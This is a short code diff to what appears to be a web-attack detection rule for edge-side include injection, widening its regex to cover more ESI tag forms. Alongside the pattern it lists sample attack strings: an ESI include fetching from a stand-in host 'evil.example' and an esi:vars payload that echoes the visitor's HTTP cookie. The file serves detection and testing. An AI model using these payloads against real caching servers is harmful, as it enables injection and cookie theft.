@@ -15,7 +15,7 @@ RULES = (
     ),
     Rule(
         "LG-SSI-002", _FAMILY, "edge-side include", cwe=97, capec=101, needles=("<esi:", "<!--esi"),
-        pattern=r"<esi:(?:(?:include|inline|assign|eval|foreach|function|when)\s[^\n>]{0,80}?\w+\s*=|debug\s*/>|(?:vars|try|choose|remove|text)\s*>[^\n]{0,200}?</esi:)|<!--esi\s",
+        pattern=r"<esi:(?:(?:include|inline|assign|eval|foreach|function|when|comment)\s[^\n>]{0,80}?\w+\s*=|debug\s*/>|(?:vars|try|choose|remove|text)\s*>[^\n]{0,200}?</esi:)|<!--esi(?:[\s/]|-->)",
         attacks=('<esi:include src="http://evil.example/x" />', "<esi:vars>$(HTTP_COOKIE)</esi:vars>", "<!--esi <p>x</p>-->"),
         benign=(("body", "Varnish understands a subset of ESI, such as the esi:include element"),),
     ),
